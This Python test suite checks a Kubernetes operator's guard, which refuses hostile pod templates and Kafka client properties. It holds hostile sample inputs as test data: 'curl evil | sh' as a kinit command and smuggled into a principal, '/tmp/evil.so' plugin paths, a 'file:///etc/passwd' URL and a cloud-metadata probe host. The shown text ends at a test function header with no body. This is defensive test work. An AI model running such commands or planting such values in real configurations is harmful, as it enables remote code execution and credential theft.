"""The guard refuses each hostile template and Kafka property with the exact field and the flag that
would permit it, permits it under that flag, lists every refusal at once, hardens without weakening
what the template states, and whatever passes after hardening meets the restricted profile."""

from __future__ import annotations

import ast
import copy
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from groupops.controller import guard, kafkaguard, podguard
from groupops.controller.guard import GuardAllowlist, GuardError, Refusal
from groupops.controller.kafkaguard import (
    check_bootstrap_servers,
    check_kafka_properties,
    check_lag_source_url,
    url_has_prefix,
)
from groupops.controller.podguard import (
    check_pod_template,
    harden_pod_template,
    image_matches,
    normalize_image,
)
from groupops.controller.spec import SpecError, parse_policy

DEFAULT = GuardAllowlist()
EVERYTHING = GuardAllowlist(
    privileged=True,
    run_as_root=True,
    host_namespaces=True,
    host_path=True,
    volume_types=("nfs", "gitRepo"),
)
T = "spec.consumers.template"
C0 = f"{T}.spec.containers[0]"


def pod(*containers: dict[str, Any], metadata: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    """A template with these containers (one plain consumer when none) and pod spec fields."""
    listed = list(containers) or [container()]
    template: dict[str, Any] = {"spec": {"containers": listed, **spec}}
    if metadata is not None:
        template["metadata"] = metadata
    return template


def container(name: str = "consumer", **fields: Any) -> dict[str, Any]:
    return {"name": name, "image": "registry.example.com/team/consumer:1", **fields}


def secured(**context: Any) -> dict[str, Any]:
    return container(securityContext=context)


def fields(refusals: list[Refusal]) -> list[str]:
    return [refusal.field for refusal in refusals]


# -- pod templates: one rule per row -------------------------------------------------------------

POD_RULES = [
    # hostile cases the issue names
    pytest.param(
        pod(secured(privileged=True)),
        f"{C0}.securityContext.privileged",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="privileged",
    ),
    pytest.param(
        pod(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
        f"{T}.spec.volumes[0].hostPath",
        "--allow-host-path",
        GuardAllowlist(host_path=True),
        id="host-path",
    ),
    pytest.param(
        pod(hostNetwork=True),
        f"{T}.spec.hostNetwork",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="host-network",
    ),
    pytest.param(
        pod(hostPID=True),
        f"{T}.spec.hostPID",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="host-pid",
    ),
    pytest.param(
        pod(secured(capabilities={"add": ["SYS_ADMIN"]})),
        f"{C0}.securityContext.capabilities.add[0]",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="added-capability",
    ),
    pytest.param(
        pod(securityContext={"runAsUser": 0}),
        f"{T}.spec.securityContext.runAsUser",
        "--allow-run-as-root",
        GuardAllowlist(run_as_root=True),
        id="run-as-root-pod",
    ),
    pytest.param(
        pod(secured(runAsUser=0)),
        f"{C0}.securityContext.runAsUser",
        "--allow-run-as-root",
        GuardAllowlist(run_as_root=True),
        id="run-as-root-container",
    ),
    # the rest of Pod Security Standards "restricted" (baseline included)
    pytest.param(
        pod(hostIPC=True),
        f"{T}.spec.hostIPC",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="host-ipc",
    ),
    pytest.param(
        pod(container(ports=[{"containerPort": 80, "hostPort": 80}])),
        f"{C0}.ports[0].hostPort",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="host-port",
    ),
    pytest.param(
        pod(container(livenessProbe={"httpGet": {"host": "169.254.169.254", "port": 80}})),
        f"{C0}.livenessProbe.httpGet.host",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="probe-host",
    ),
    pytest.param(
        pod(container(lifecycle={"preStop": {"tcpSocket": {"host": "10.0.0.1", "port": 22}}})),
        f"{C0}.lifecycle.preStop.tcpSocket.host",
        "--allow-host-namespaces",
        GuardAllowlist(host_namespaces=True),
        id="hook-host",
    ),
    pytest.param(
        pod(secured(allowPrivilegeEscalation=True)),
        f"{C0}.securityContext.allowPrivilegeEscalation",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="privilege-escalation",
    ),
    pytest.param(
        pod(secured(capabilities={"drop": ["NET_RAW"]})),
        f"{C0}.securityContext.capabilities.drop",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="drop-without-all",
    ),
    pytest.param(
        pod(securityContext={"runAsNonRoot": False}),
        f"{T}.spec.securityContext.runAsNonRoot",
        "--allow-run-as-root",
        GuardAllowlist(run_as_root=True),
        id="run-as-non-root-false-pod",
    ),
    pytest.param(
        pod(secured(runAsNonRoot=False)),
        f"{C0}.securityContext.runAsNonRoot",
        "--allow-run-as-root",
        GuardAllowlist(run_as_root=True),
        id="run-as-non-root-false-container",
    ),
    pytest.param(
        pod(secured(procMount="Unmasked")),
        f"{C0}.securityContext.procMount",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="proc-mount",
    ),
    pytest.param(
        pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
        f"{T}.spec.securityContext.seccompProfile.type",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="seccomp-unconfined-pod",
    ),
    pytest.param(
        pod(secured(seccompProfile={"type": "Unconfined"})),
        f"{C0}.securityContext.seccompProfile.type",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="seccomp-unconfined-container",
    ),
    pytest.param(
        pod(secured(appArmorProfile={"type": "Unconfined"})),
        f"{C0}.securityContext.appArmorProfile.type",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="apparmor-unconfined",
    ),
    pytest.param(
        pod(
            metadata={
                "annotations": {"container.apparmor.security.beta.kubernetes.io/consumer": "unconfined"}
            }
        ),
        f"{T}.metadata.annotations.container.apparmor.security.beta.kubernetes.io/consumer",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="apparmor-annotation",
    ),
    pytest.param(
        pod(metadata={"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}}),
        f"{T}.metadata.annotations.seccomp.security.alpha.kubernetes.io/pod",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="seccomp-annotation",
    ),
    pytest.param(
        pod(secured(seLinuxOptions={"type": "spc_t"})),
        f"{C0}.securityContext.seLinuxOptions.type",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="selinux-type",
    ),
    pytest.param(
        pod(securityContext={"seLinuxOptions": {"user": "system_u"}}),
        f"{T}.spec.securityContext.seLinuxOptions.user",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="selinux-user",
    ),
    pytest.param(
        pod(securityContext={"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}),
        f"{T}.spec.securityContext.sysctls[0].name",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="unsafe-sysctl",
    ),
    pytest.param(
        pod(securityContext={"windowsOptions": {"hostProcess": True}}),
        f"{T}.spec.securityContext.windowsOptions.hostProcess",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="windows-host-process",
    ),
    pytest.param(
        pod(volumes=[{"name": "share", "nfs": {"server": "nfs", "path": "/"}}]),
        f"{T}.spec.volumes[0].nfs",
        "--allow-volume-type nfs",
        GuardAllowlist(volume_types=("nfs",)),
        id="nfs-volume",
    ),
    pytest.param(
        pod(volumes=[{"name": "src", "gitRepo": {"repository": "https://x/y"}}]),
        f"{T}.spec.volumes[0].gitRepo",
        "--allow-volume-type gitRepo",
        GuardAllowlist(volume_types=("gitRepo",)),
        id="git-repo-volume",
    ),
    pytest.param(
        pod(
            container(name="setup"),
            initContainers=[{"name": "init", "image": "x", "securityContext": {"privileged": True}}],
        ),
        f"{T}.spec.initContainers[0].securityContext.privileged",
        "--allow-privileged",
        GuardAllowlist(privileged=True),
        id="privileged-init-container",
    ),
]


@pytest.mark.parametrize(("template", "field", "flag", "permitting"), POD_RULES)
def test_each_pod_rule_is_refused_with_its_field_and_flag(
    template: dict[str, Any], field: str, flag: str, permitting: GuardAllowlist
) -> None:
    refusals = check_pod_template(template, DEFAULT)
    assert fields(refusals) == [field]
    assert f"started with {flag}" in refusals[0].reason


@pytest.mark.parametrize(("template", "field", "flag", "permitting"), POD_RULES)
def test_each_pod_rule_is_permitted_by_its_flag(
    template: dict[str, Any], field: str, flag: str, permitting: GuardAllowlist
) -> None:
    assert check_pod_template(template, permitting) == []


REGISTRIES = GuardAllowlist(image_registries=("registry.example.com",))


@pytest.mark.parametrize(
    ("template", "field"),
    [
        pytest.param(pod(container(image="evil.io/miner:1")), f"{C0}.image", id="container"),
        pytest.param(
            pod(initContainers=[{"name": "i", "image": "busybox"}]),
            f"{T}.spec.initContainers[0].image",
            id="init-container-bare-name",
        ),
        pytest.param(
            pod(ephemeralContainers=[{"name": "e", "image": "evil.io/shell"}]),
            f"{T}.spec.ephemeralContainers[0].image",
            id="ephemeral-container",
        ),
        pytest.param(
            pod(container(image="registry.example.com.evil.io/x:1")), f"{C0}.image", id="lookalike-host"
        ),
    ],
)
def test_a_foreign_registry_is_refused_when_registries_are_restricted(
    template: dict[str, Any], field: str
) -> None:
    refusals = check_pod_template(template, REGISTRIES)
    assert fields(refusals) == [field]
    assert "--allowed-image-registries" in refusals[0].reason
    assert "registry.example.com" in refusals[0].reason
    assert check_pod_template(template, DEFAULT) == []  # no list: any registry


def test_a_template_without_an_image_is_not_judged_by_registry() -> None:
    """The renderer gives the consumer container the operator's own image."""
    assert check_pod_template(pod({"name": "consumer"}), REGISTRIES) == []


@pytest.mark.parametrize(
    ("image", "prefixes", "matches"),
    [
        pytest.param("groupops:0.1", ("docker.io/library",), True, id="bare-name-is-docker-library"),
        pytest.param("groupops:0.1", ("docker.io",), True, id="bare-name-is-docker-hub"),
        pytest.param("team/app:1", ("docker.io/library",), False, id="user-repo-is-not-library"),
        pytest.param("team/app:1", ("docker.io/team",), True, id="user-repo"),
        pytest.param("index.docker.io/library/redis", ("docker.io/library",), True, id="hub-alias"),
        pytest.param("docker.io/redis", ("docker.io/library/redis",), True, id="exact-repository"),
        pytest.param("REG.example.com/x", ("reg.example.com",), True, id="host-case"),
        pytest.param("reg.example.com:5000/x", ("reg.example.com",), False, id="other-port"),
        pytest.param("reg.example.com:5000/x", ("reg.example.com:5000",), True, id="port"),
        pytest.param("reg.io/team/app:1", ("reg.io/team/app",), True, id="repository-tag"),
        pytest.param("reg.io/team/app@sha256:ab", ("reg.io/team/app",), True, id="repository-digest"),
        pytest.param("reg.io/team/apple:1", ("reg.io/team/app",), False, id="repository-boundary"),
        pytest.param("reg.io/team/app/sub:1", ("reg.io/team/",), True, id="trailing-slash"),
        pytest.param("localhost/x", ("localhost",), True, id="localhost"),
        pytest.param("", ("docker.io",), False, id="empty"),
    ],
)
def test_image_prefixes_match_at_a_boundary_of_the_full_name(
    image: str, prefixes: tuple[str, ...], matches: bool
) -> None:
    assert image_matches(image, prefixes) is matches


def test_normalize_image_writes_what_the_runtime_pulls() -> None:
    assert normalize_image("groupops:0.1") == "docker.io/library/groupops:0.1"
    assert normalize_image("bitnami/kafka") == "docker.io/bitnami/kafka"
    assert normalize_image("ghcr.io/o/r:1") == "ghcr.io/o/r:1"


@pytest.mark.parametrize("prefix", ["groupops", "https://reg.io", " reg.io", "library/x"])
def test_a_registry_prefix_must_start_with_a_host(prefix: str) -> None:
    with pytest.raises(ValueError, match="registry host first"):
        GuardAllowlist(image_registries=(prefix,))


@pytest.mark.parametrize(
    ("template", "field"),
    [
        pytest.param(
            pod(serviceAccountName="cluster-admin"), f"{T}.spec.serviceAccountName", id="account-name"
        ),
        pytest.param(
            pod(serviceAccount="cluster-admin"), f"{T}.spec.serviceAccount", id="deprecated-account"
        ),
        pytest.param(
            pod(automountServiceAccountToken=False), f"{T}.spec.automountServiceAccountToken", id="automount"
        ),
    ],
)
def test_another_service_account_is_refused_whatever_the_flags(template: dict[str, Any], field: str) -> None:
    refusals = check_pod_template(template, EVERYTHING)
    assert fields(refusals) == [field]
    assert "no flag permits" in refusals[0].reason


def test_every_refusal_is_listed_at_once() -> None:
    template = pod(
        secured(privileged=True, runAsUser=0),
        hostNetwork=True,
        serviceAccountName="admin",
        volumes=[{"name": "root", "hostPath": {"path": "/"}}],
    )
    assert sorted(fields(check_pod_template(template, DEFAULT))) == sorted(
        [
            f"{T}.spec.serviceAccountName",
            f"{T}.spec.hostNetwork",
            f"{T}.spec.volumes[0].hostPath",
            f"{C0}.securityContext.runAsUser",
            f"{C0}.securityContext.privileged",
        ]
    )


def test_ordinary_templates_pass() -> None:
    template = pod(
        container(
            ports=[{"containerPort": 9400, "name": "metrics"}],
            livenessProbe={"httpGet": {"path": "/healthz", "port": 9400}},
            resources={"limits": {"memory": "512Mi"}},
            securityContext={"capabilities": {"add": ["NET_BIND_SERVICE"]}, "readOnlyRootFilesystem": True},
        ),
        volumes=[{"name": "tmp", "emptyDir": {}}, {"name": "conf", "configMap": {"name": "c"}}],
        securityContext={"sysctls": [{"name": "net.ipv4.tcp_keepalive_time", "value": "60"}]},
        metadata={
            "annotations": {"container.apparmor.security.beta.kubernetes.io/consumer": "runtime/default"}
        },
    )
    assert check_pod_template(template, REGISTRIES) == []
    assert check_pod_template({}, DEFAULT) == []


def test_the_field_prefix_follows_where() -> None:
    refusals = check_pod_template(pod(hostPID=True), DEFAULT, where="template")
    assert fields(refusals) == ["template.spec.hostPID"]


# -- hardening -----------------------------------------------------------------------------------


def test_hardening_fills_the_restricted_defaults() -> None:
    hardened = harden_pod_template(pod(container(), initContainers=[{"name": "init", "image": "x"}]))
    assert hardened["spec"]["securityContext"] == {
        "runAsNonRoot": True,
        "seccompProfile": {"type": "RuntimeDefault"},
        "fsGroup": 10001,
    }
    for kind in ("containers", "initContainers"):
        assert hardened["spec"][kind][0]["securityContext"] == {
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
        }
    assert "automountServiceAccountToken" not in hardened["spec"]
    assert "serviceAccountName" not in hardened["spec"]


def test_hardening_keeps_what_the_template_states() -> None:
    template = pod(
        secured(allowPrivilegeEscalation=True, capabilities={"drop": ["NET_RAW"]}),
        securityContext={"runAsNonRoot": False, "fsGroup": 2000, "seccompProfile": {"type": "Localhost"}},
    )
    hardened = harden_pod_template(template)
    assert hardened["spec"]["securityContext"] == template["spec"]["securityContext"]
    assert (
        hardened["spec"]["containers"][0]["securityContext"]
        == template["spec"]["containers"][0]["securityContext"]
    )


def test_hardening_avoids_combinations_the_api_refuses() -> None:
    """allowPrivilegeEscalation false beside privileged or SYS_ADMIN is invalid; runAsNonRoot true
    beside runAsUser 0 never starts."""
    hardened = harden_pod_template(
        pod(
            secured(privileged=True),
            secured(capabilities={"add": ["SYS_ADMIN"]}),
            securityContext={"runAsUser": 0},
        )
    )
    first, second = (c["securityContext"] for c in hardened["spec"]["containers"])
    assert "allowPrivilegeEscalation" not in first
    assert "allowPrivilegeEscalation" not in second
    assert "runAsNonRoot" not in hardened["spec"]["securityContext"]


def test_hardening_a_rendered_pod_keeps_its_envelope() -> None:
    rendered = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, **pod()}
    hardened = harden_pod_template(rendered)
    assert hardened["apiVersion"] == "v1"
    assert hardened["metadata"] == {"name": "p"}
    assert hardened["spec"]["containers"][0]["securityContext"]["allowPrivilegeEscalation"] is False


# -- properties ----------------------------------------------------------------------------------

_CONTEXT_CHOICES: dict[str, Any] = {
    "runAsUser": st.sampled_from([0, 1000, 10001]),
    "runAsNonRoot": st.booleans(),
    "seccompProfile": st.sampled_from([{"type": t} for t in ("RuntimeDefault", "Localhost", "Unconfined")]),
}
pod_contexts = st.fixed_dictionaries(
    {},
    optional={
        **_CONTEXT_CHOICES,
        "fsGroup": st.sampled_from([0, 2000]),
        "sysctls": st.sampled_from([[{"name": "kernel.msgmax"}], [{"name": "net.ipv4.tcp_syncookies"}]]),
    },
)
container_contexts = st.fixed_dictionaries(
    {},
    optional={
        **_CONTEXT_CHOICES,
        "privileged": st.booleans(),
        "allowPrivilegeEscalation": st.booleans(),
        "procMount": st.sampled_from(["Default", "Unmasked"]),
        "capabilities": st.fixed_dictionaries(
            {},
            optional={
                "add": st.lists(st.sampled_from(["NET_BIND_SERVICE", "SYS_ADMIN", "NET_RAW"]), max_size=2),
                "drop": st.lists(st.sampled_from(["ALL", "NET_RAW"]), max_size=2),
            },
        ),
    },
)
containers = st.builds(
    lambda i, context, host_port: {
        "name": f"c{i}",
        "image": "registry.example.com/c:1",
        **({"securityContext": context} if context is not None else {}),
        **({"ports": [{"containerPort": 80, "hostPort": host_port}]} if host_port is not None else {}),
    },
    st.integers(0, 99),
    st.none() | container_contexts,
    st.none() | st.sampled_from([0, 8080]),
)
volumes = st.sampled_from(
    [{"name": "v", "emptyDir": {}}, {"name": "v", "hostPath": {"path": "/"}}, {"name": "v", "nfs": {}}]
)
templates = st.builds(
    lambda spec, context: {"spec": {**spec, **({"securityContext": context} if context is not None else {})}},
    st.fixed_dictionaries(
        {"containers": st.lists(containers, min_size=1, max_size=3)},
        optional={
            "initContainers": st.lists(containers, max_size=2),
            "hostNetwork": st.booleans(),
            "hostPID": st.booleans(),
            "volumes": st.lists(volumes, max_size=2),
        },
    ),
    st.none() | pod_contexts,
)


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    """Every stated value with its path (an empty object states nothing: hardening fills it)."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list) and value and any(isinstance(item, dict) for item in value):
        for index, item in enumerate(value):
            yield from leaves(item, (*path, index))
    else:
        yield path, value


def at(value: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        value = value[key]
    return value


@given(templates)
def test_hardening_is_idempotent_and_never_changes_a_stated_value(template: dict[str, Any]) -> None:
    before = copy.deepcopy(template)
    hardened = harden_pod_template(template)
    assert template == before, "the input is not changed"
    assert harden_pod_template(hardened) == hardened
    for path, value in leaves(template):
        assert at(hardened, path) == value, path


@given(templates)
def test_checking_judges_the_hardened_template(template: dict[str, Any]) -> None:
    hardened = harden_pod_template(template)
    assert check_pod_template(template, DEFAULT) == check_pod_template(hardened, DEFAULT)
    assert check_pod_template(template, EVERYTHING) == []


@given(templates)
def test_what_passes_after_hardening_meets_the_restricted_profile(template: dict[str, Any]) -> None:
    hardened = harden_pod_template(template)
    if not check_pod_template(hardened, DEFAULT):  # about a quarter of the examples
        assert restricted_violations(hardened["spec"]) == []


def test_a_plain_template_meets_the_restricted_profile_once_hardened() -> None:
    assert restricted_violations(pod()["spec"]) != []
    assert restricted_violations(harden_pod_template(pod())["spec"]) == []


def restricted_violations(spec: dict[str, Any]) -> list[str]:
    """Pod Security Standards "restricted" (with baseline), written from the standard's text,
    independently of the guard: the oracle of the property above."""
    found: list[str] = []
    pod_context = spec.get("securityContext") or {}
    for key in ("hostNetwork", "hostPID", "hostIPC"):
        if spec.get(key):
            found.append(key)
    for volume in spec.get("volumes") or []:
        kinds = set(volume) - {"name"}
        if kinds - {
            "configMap",
            "csi",
            "downwardAPI",
            "emptyDir",
            "ephemeral",
            "persistentVolumeClaim",
            "projected",
            "secret",
        }:
            found.append(f"volume {kinds}")
    if pod_context.get("runAsUser") == 0:
        found.append("pod runAsUser 0")
    if any(s["name"] not in podguard.SAFE_SYSCTLS for s in pod_context.get("sysctls") or []):
        found.append("sysctl")
    pod_seccomp = (pod_context.get("seccompProfile") or {}).get("type")
    for kind in ("containers", "initContainers", "ephemeralContainers"):
        for item in spec.get(kind) or []:
            context = item.get("securityContext") or {}
            name = f"{kind}/{item['name']}"
            if context.get("privileged"):
                found.append(f"{name} privileged")
            if context.get("allowPrivilegeEscalation") is not False:
                found.append(f"{name} allowPrivilegeEscalation")
            capabilities = context.get("capabilities") or {}
            if set(capabilities.get("add") or []) - {"NET_BIND_SERVICE"}:
                found.append(f"{name} capabilities.add")
            if "ALL" not in (capabilities.get("drop") or []):
                found.append(f"{name} capabilities.drop")
            if context.get("procMount", "Default") != "Default":
                found.append(f"{name} procMount")
            if context.get("runAsUser") == 0:
                found.append(f"{name} runAsUser 0")
            if context.get("runAsNonRoot", pod_context.get("runAsNonRoot")) is not True:
                found.append(f"{name} runAsNonRoot")
            seccomp = (context.get("seccompProfile") or {}).get("type", pod_seccomp)
            if seccomp not in ("RuntimeDefault", "Localhost"):
                found.append(f"{name} seccomp")
            if any(port.get("hostPort") for port in item.get("ports") or []):
                found.append(f"{name} hostPort")
    return found


# -- Kafka properties ----------------------------------------------------------------------------

P = "spec.kafka.properties"

KAFKA_RULES = [
    # hostile cases the issue names
    pytest.param("plugin.library.paths", "/tmp/evil.so", "loads shared libraries", id="plugin"),
    pytest.param("enable.ssl.certificate.verification", "false", "verification", id="verification-off"),
    pytest.param("ssl.endpoint.identification.algorithm", "none", "hostname verification", id="hostname-off"),
    # code and commands
    pytest.param("ssl.engine.location", "/tmp/engine.so", "OpenSSL engine", id="engine-location"),
    pytest.param("ssl.engine.id", "evil", "OpenSSL engine", id="engine-id"),
    pytest.param("ssl.providers", "/tmp/provider.so", "providers", id="providers"),
    pytest.param("sasl.kerberos.kinit.cmd", "curl evil | sh", "shell command", id="kinit-cmd"),
    pytest.param(
        "sasl.kerberos.principal", "a; curl evil | sh", "kinit shell command", id="principal-injection"
    ),
    # files of the operator's pod
    pytest.param(
        "ssl.ca.location",
        "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
        "ssl.ca.pem",
        id="ca-location",
    ),
    pytest.param("ssl.certificate.location", "/etc/x.crt", "ssl.certificate.pem", id="certificate-location"),
    pytest.param("ssl.key.location", "/etc/x.key", "ssl.key.pem", id="key-location"),
    pytest.param("ssl.keystore.location", "/etc/x.p12", "ssl.key.pem and ssl.certificate.pem", id="keystore"),
    pytest.param("https.ca.location", "/etc/ca", "https.ca.pem", id="https-ca-location"),
    pytest.param("ssl.crl.location", "/etc/crl", "no inline form", id="crl-location"),
    pytest.param("sasl.kerberos.keytab", "/etc/krb5.keytab", "names a file", id="keytab"),
    pytest.param(
        "sasl.oauthbearer.assertion.file",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "names a file",
        id="assertion-file",
    ),
    pytest.param(
        "sasl.oauthbearer.assertion.private.key.file",
        "/k",
        "assertion.private.key.pem",
        id="assertion-key-file",
    ),
    pytest.param(
        "sasl.oauthbearer.assertion.jwt.template.file", "/t", "names a file", id="jwt-template-file"
    ),
    pytest.param("offset.store.path", "/tmp", "names a file", id="offset-store-path"),
    # identity
    pytest.param("sasl.oauthbearer.token.endpoint.url", "http://idp/token", "https://", id="token-url-http"),
    pytest.param(
        "sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd", "https://", id="token-url-file"
    ),
    pytest.param("sasl.oauthbearer.metadata.authentication.type", "azure_imds", "cloud identity", id="imds"),
    pytest.param("ssl.cipher.suites", "ALL:@SECLEVEL=0", "SECLEVEL", id="seclevel-0"),
    pytest.param("ssl.cipher.suites", "ECDHE-RSA-AES128-SHA:NULL-SHA256", "NULL", id="null-cipher"),
    # the operator's own process
    pytest.param("debug", "all", "log volume", id="debug"),
    pytest.param("internal.termination.signal", "15", "signal handler", id="termination-signal"),
    # names
    pytest.param("ssl.ca.locaton", "x", "has no property", id="unknown-name"),
    pytest.param("SSL.CA.LOCATION", "x", "lowercase letters", id="uppercase-name"),
    pytest.param("client id", "x", "lowercase letters", id="space-in-name"),
    pytest.param("ssl_engine_callback_data", "x", "C API", id="api-only"),
]


@pytest.mark.parametrize(("name", "value", "why"), KAFKA_RULES)
def test_each_kafka_rule_is_refused_with_its_field_and_flag(name: str, value: str, why: str) -> None:
    refusals = check_kafka_properties({name: value}, DEFAULT)
    assert fields(refusals) == [f"{P}.{name}"]
    assert why in refusals[0].reason
    assert f"started with --allow-kafka-property {name}" in refusals[0].reason


@pytest.mark.parametrize(("name", "value", "why"), KAFKA_RULES)
def test_each_kafka_rule_is_permitted_by_naming_the_property(name: str, value: str, why: str) -> None:
    assert check_kafka_properties({name: value}, GuardAllowlist(kafka_properties=(name,))) == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param("enable.ssl.certificate.verification", "true", id="verification-on"),
        pytest.param("ssl.endpoint.identification.algorithm", "https", id="hostname-on"),
        pytest.param("ssl.ca.location", "probe", id="ca-probe"),
        pytest.param("sasl.kerberos.principal", "kafka/host.example.com@EXAMPLE.COM", id="principal"),
        pytest.param("sasl.oauthbearer.token.endpoint.url", "https://idp/token", id="token-url-https"),
        pytest.param("sasl.oauthbearer.metadata.authentication.type", "none", id="no-imds"),
        pytest.param("ssl.cipher.suites", "ECDHE-RSA-AES256-GCM-SHA384:!aNULL:!eNULL:-EXP", id="ciphers"),
        pytest.param("ssl.ca.pem", "-----BEGIN CERTIFICATE-----", id="ca-pem"),
        pytest.param("sasl.password", "hunter2", id="password"),
        pytest.param("security.protocol", "SASL_SSL", id="security-protocol"),
        pytest.param("client.id", "orders", id="client-id"),
        pytest.param("session.timeout.ms", "45000", id="session-timeout"),
        pytest.param("log_level", "6", id="underscore-name"),
    ],
)
def test_ordinary_kafka_properties_pass(name: str, value: str) -> None:
    assert check_kafka_properties({name: value}, DEFAULT) == []


def test_reasons_never_quote_a_value() -> None:
    """Values may come from the auth Secret."""
    properties = {
        "sasl.oauthbearer.token.endpoint.url": "http://user:MARK@idp/token",
        "sasl.kerberos.principal": "MARK; curl x",
        "ssl.key.location": "/MARK",
        "enable.ssl.certificate.verification": "MARK",
        "ssl.cipher.suites": "NULL-MARK",
        "plugin.library.paths": "/MARK.so",
    }
    refusals = check_kafka_properties(properties, DEFAULT)
    assert len(refusals) == len(properties)
    assert not [refusal for refusal in refusals if "MARK" in str(refusal)]


def test_the_auth_secret_is_judged_under_its_own_name() -> None:
    secret = {"sasl.password": "p", "plugin.library.paths": "/x.so", "ssl.key.location": "/k"}
    refusals = check_kafka_properties(secret, DEFAULT, where="Secret orders-kafka")
    assert fields(refusals) == [
        "Secret orders-kafka.plugin.library.paths",
        "Secret orders-kafka.ssl.key.location",
    ]


def test_every_kafka_refusal_is_listed_at_once() -> None:
    properties = {"plugin.library.paths": "x", "enable.ssl.certificate.verification": "false", "debug": "all"}
    assert len(check_kafka_properties(properties, DEFAULT)) == 3


def test_the_property_list_is_librdkafkas() -> None:
    """A spot check of the embedded list against librdkafka 2.16's CONFIGURATION.md."""
    assert {"bootstrap.servers", "sasl.oauthbearer.metadata.authentication.type", "client.rack"} <= (
        kafkaguard.LIBRDKAFKA_PROPERTIES
    )
    assert not kafkaguard.LIBRDKAFKA_PROPERTIES & kafkaguard.LIBRDKAFKA_API_ONLY
    assert all(kafkaguard._PROPERTY_NAME.match(name) for name in kafkaguard.LIBRDKAFKA_PROPERTIES)


# -- sizes, errors, surface ----------------------------------------------------------------------


SIZED = {
    "kafka": {"bootstrapServers": "k:9092"},
    "groupId": "orders",
    "topics": ["orders"],
    "lagSource": {"type": "static", "static": {"lags": {"orders": [1]}}},
}


@pytest.mark.parametrize(
    ("consumers", "field"),
    [
        pytest.param({"replicas": 1_000_000}, "spec.consumers.replicas", id="replicas"),
        pytest.param(
            {"autoscale": {"max": 1_000_000, "targetLagPerReplica": 1}},
            "spec.consumers.autoscale.max",
            id="autoscale-max",
        ),
    ],
)
def test_huge_sizes_are_refused_by_the_spec_parser(consumers: dict[str, Any], field: str) -> None:
    """Replica counts are bounded where they are parsed (spec_schema.MAX_REPLICAS); the guard adds no
    second bound (a namespace's ResourceQuota is the tool for a tighter one)."""
    with pytest.raises(SpecError) as caught:
        parse_policy({**SIZED, "consumers": consumers})
    assert caught.value.field == field
    assert "[" in caught.value.message and "1000]" in caught.value.message


def test_guard_error_is_a_spec_error_listing_every_refusal() -> None:
    refusals = check_pod_template(pod(hostPID=True, hostIPC=True), DEFAULT)
    error = GuardError(refusals)
    assert isinstance(error, SpecError)
    assert error.field == f"{T}.spec.hostPID"
    assert str(error) == "; ".join(str(refusal) for refusal in refusals)
    assert error.refusals == tuple(refusals)
    with pytest.raises(ValueError, match="at least one"):
        GuardError([])


def test_the_guard_modules_are_pure_and_list_their_surface() -> None:
    for module in (guard, podguard, kafkaguard):
        source = Path(module.__file__).read_text(encoding="utf-8")
        imported = {
            node.module if isinstance(node, ast.ImportFrom) else alias.name
            for node in ast.walk(ast.parse(source))
            if isinstance(node, ast.Import | ast.ImportFrom)
            for alias in node.names
        }
        assert imported <= {
            "__future__",
            "copy",
            "re",
            "collections.abc",
            "dataclasses",
            "typing",
            "groupops.controller.spec",
            "groupops.controller.guard",
        }, module.__name__
        for name in module.__all__:
            assert hasattr(module, name), name


# -- brokers (--allowed-bootstrap-servers) ------------------------------------------------------

BROKERS = GuardAllowlist(bootstrap_servers=("*.kafka.example.com:9093", "kafka.kafka.svc:9092"))


@pytest.mark.parametrize(
    "servers",
    [
        "b-1.kafka.example.com:9093",
        "b-1.kafka.example.com:9093,b-2.eu.kafka.example.com:9093",
        "kafka.kafka.svc:9092",
        "KAFKA.kafka.svc:9092",
    ],
)
def test_brokers_matching_the_allowlist_pass(servers: str) -> None:
    assert check_bootstrap_servers(servers, BROKERS) == []


@pytest.mark.parametrize(
    ("servers", "refused"),
    [
        ("kafka.evil.io:9093", "kafka.evil.io:9093"),
        ("b-1.kafka.example.com:9092", "b-1.kafka.example.com:9092"),  # the right domain, another port
        ("kafka.example.com:9093", "kafka.example.com:9093"),  # *. needs a name below the domain
        ("evilkafka.example.com:9093", "evilkafka.example.com:9093"),
        ("kafka.kafka.svc.evil.io:9092", "kafka.kafka.svc.evil.io:9092"),
        ("b-1.kafka.example.com:9093,kafka.evil.io:9093", "kafka.evil.io:9093"),
    ],
)
def test_a_broker_outside_the_allowlist_is_refused_naming_it_and_the_flag(servers: str, refused: str) -> None:
